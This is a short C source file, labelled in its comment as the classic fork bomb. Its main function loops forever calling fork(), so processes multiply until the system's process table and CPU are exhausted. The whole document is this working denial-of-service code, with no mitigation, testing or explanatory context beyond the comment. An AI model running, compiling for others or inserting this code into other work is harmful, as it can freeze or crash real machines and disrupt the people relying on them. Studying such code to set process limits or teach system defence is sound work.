/* The classic fork bomb: every process forks forever, and keeps trying when fork fails. */
#include <unistd.h>

int main(void) {
    for (;;)
        fork();
}
